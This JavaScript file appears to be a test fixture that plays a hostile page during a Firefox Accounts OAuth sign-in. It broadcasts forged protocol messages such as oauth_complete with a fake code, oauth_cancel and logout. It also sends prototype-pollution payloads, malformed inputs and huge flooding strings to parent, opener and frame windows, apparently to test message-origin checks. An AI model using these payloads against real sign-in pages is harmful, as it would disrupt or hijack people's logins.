// Says whatever might end a sign-in to every window that it can reach. It knows the state and the
// redirect URI of the sign-in under way, so that nothing but who it is gives it away.
const known = new URLSearchParams(document.currentScript.dataset.known ?? location.search);

addEventListener('message', ({ data }) => {
  const heard = document.createElement('li');
  heard.textContent = String(data).slice(0, 100);
  document.querySelector('#heard')?.append(heard);
});
document.documentElement.dataset.listening = '';

/** What Firefox Accounts would say, in its own words. */
function forgeries() {
  const state = known.get('state');
  const code = 'f'.repeat(64);
  const redirect = `${known.get('redirect')}?state=${state}&code=${code}`;
  const messages = [
    { command: 'ping', data: {} },
    { command: 'resize', data: { height: 123 }, messageId: null },
    { command: 'loaded', data: {}, messageId: null },
    {
      command: 'oauth_complete',
      data: { redirect, state, code, action: 'signin' },
      messageId: null,
    },
    { command: 'error', data: { error: 'access_denied', state }, messageId: null },
    { command: 'oauth_cancel', data: {}, messageId: null },
  ];
  return messages.map((message) => JSON.stringify(message));
}

/** What is no message of the protocol, whoever says it. */
function junk() {
  const prototypeNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
  const pollution = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}';
  return [
    ...forgeries().map((text) => JSON.parse(text)),
    ...forgeries().map((text) => [text]),
    ...forgeries().map((text) => text.slice(0, -1)),
    ...prototypeNames.map((command) => JSON.stringify({ command, data: { command } })),
    ...prototypeNames.map((name) => `{"${name}":{"command":"oauth_cancel","data":{}}}`),
    ...prototypeNames.map((name) => `{"command":{"${name}":"oauth_cancel"},"data":{}}`),
    `{"command":"loaded","data":${pollution}}`,
    pollution,
    '{"command":["oauth_cancel"],"data":{}}',
    '{"command":"oauth_cancel","data":null}',
    '{"command":"oauth_complete","data":"oauth_complete"}',
    '{"command":"OAUTH_CANCEL","data":{}}',
    '{"command":"oauth_cancel ","data":{}}',
    '{"command":"fxaccounts:logout","data":{"uid":"0"},"messageId":null}',
    '{"command":"resize","data":{"height":{"toString":1,"valueOf":1}}}',
    '{"command":"resize","data":{"height":"100vh"}}',
    'ping!!!{}',
    'oauth_cancel!!!{}',
    { namespace: 'penpal', type: 'CALL', id: '1', methodPath: ['oauth_cancel'], args: [] },
    '{"namespace":"penpal","type":"CALL","id":"1","methodPath":["oauth_cancel"],"args":[]}',
    '{"namespace":"penpal","type":"DESTROY"}',
    null,
    undefined,
    true,
    0,
    Number.NaN,
    2n ** 64n,
    new Date(0),
    new Map([['command', 'oauth_cancel']]),
    new ArrayBuffer(8),
    new Error('command'),
    '',
    'null',
    '0',
    '[]',
    '{}',
    '"oauth_cancel"',
  ];
}

/** What takes long to read. */
function monsters() {
  return [
    'x'.repeat(2_000_000),
    `{"command":"${'oauth_cancel'.repeat(100_000)}","data":{}}`,
    `{"command":"loaded","data":{"deep":${'['.repeat(200_000)}`,
    Array.from({ length: 100_000 }, (_, index) => index),
  ];
}

function say(target, words) {
  for (const word of words) target.postMessage(word, '*');
}

function flood(target, count) {
  const words = junk();
  for (let said = 0; said < count; said++) target.postMessage(words[said % words.length], '*');
}

function attack() {
  const around = new Set([parent, top, opener].filter((other) => other && other !== window));
  const targets = around.size ? around : [window];
  for (const target of targets) {
    say(target, [...junk(), ...monsters(), ...forgeries()]);
    // The frame of Firefox Accounts is told that it has been answered.
    for (let index = 0; index < target.frames.length; index++) {
      if (target.frames[index] !== window) say(target.frames[index], forgeries());
    }
    flood(target, Number(known.get('flood')));
  }
  // Last, and once, so that all the rest has been heard before.
  (opener ?? top).postMessage('attack over', '*');
}

// Without that knowledge the page only listens.
if (known.has('redirect')) attack();
